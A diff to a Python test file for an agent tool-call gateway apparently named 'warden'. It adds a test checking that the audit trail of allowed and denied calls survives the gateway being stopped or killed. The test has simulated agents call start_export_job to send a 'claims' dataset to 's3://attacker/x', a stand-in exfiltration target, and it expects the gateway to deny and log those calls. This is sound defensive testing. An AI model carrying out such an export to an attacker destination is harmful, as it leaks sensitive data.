@@ -7,6 +7,7 @@ Every SDK test runs at both revisions the 2.x SDK speaks: 2025-11-25 (initialize
 from __future__ import annotations
 
 import json
+import subprocess
 import time
 from collections.abc import Iterator
 from pathlib import Path
@@ -584,3 +585,57 @@ async def test_shutdown_stops_the_upstreams_of_every_session(tmp_path, keys):
             break
         time.sleep(0.1)
     assert not alive, f"upstream processes still running after shutdown: {alive}"
+
+
+def audit_records(store: str) -> list[dict]:
+    """The `tools/call` decisions in the audit trail as `warden audit --json` prints them, from another process (the
+    tools the SDK's own `tools/list` found hidden are recorded too, and left out here)."""
+    done = subprocess.run([warden_bin(), "audit", "--json", "--store", store], capture_output=True, text=True, timeout=60)
+    assert done.returncode == 0, done.stderr
+    records = json.loads(done.stdout)
+    assert {r["tool"] for r in records if r["decision"] == "hidden"} <= {"delete_record"}
+    return [r for r in records if r["decision"] != "hidden"]
+
+
+async def test_the_audit_trail_survives_sigterm_and_sigkill(tmp_path, keys):
+    """Decisions go to the journal before the call goes on; a stopped gateway moves it, a killed one leaves it for the
+    next process to open the store."""
+    database = tmp_path / "warden.db"
+    journals = tmp_path / "warden.db.audit-journals"
+    config = config_text({agent: pair[1] for agent, pair in keys.items()}).replace(
+        'store: "memory:"', f'store: "sqlite:{database}"'
+    )
+
+    async def calls(gateway: Gateway, agent: str) -> None:
+        async with gateway_client(gateway.url("demo"), keys[agent][0], mode="legacy") as client:
+            await client.call_tool("read_record", {"id": "r-1"})
+            await client.call_tool("start_export_job", {"destination_uri": "s3://attacker/x", "dataset": "claims"})
+
+    (tmp_path / "first").mkdir()
+    first = Gateway(tmp_path / "first", config)
+    await calls(first, "alice")
+    assert first.stop() == 0
+    # A stopped gateway moved its journal into the database and deleted it.
+    assert list(journals.iterdir()) == []
+    assert [(r["agent"], r["tool"], r["decision"], r["outcome"]) for r in audit_records(f"sqlite:{database}")] == [
+        ("alice", "read_record", "allowed", "result"),
+        ("alice", "start_export_job", "denied", "refused"),
+    ]
+
+    (tmp_path / "second").mkdir()
+    second = Gateway(tmp_path / "second", config)
+    await calls(second, "bob")
+    second.process.kill()
+    second.process.wait(timeout=10)
+    second.stop()
+    # A killed gateway's journal is left behind; the next store opened (here `warden audit`) moves and deletes it.
+    assert len(list(journals.iterdir())) == 1
+    records = audit_records(f"sqlite:{database}")
+    assert [(r["agent"], r["tool"], r["decision"]) for r in records] == [
+        ("alice", "read_record", "allowed"),
+        ("alice", "start_export_job", "denied"),
+        ("bob", "read_record", "allowed"),
+        ("bob", "start_export_job", "denied"),
+    ]
+    assert records[2]["outcome"] == "result"
+    assert list(journals.iterdir()) == []
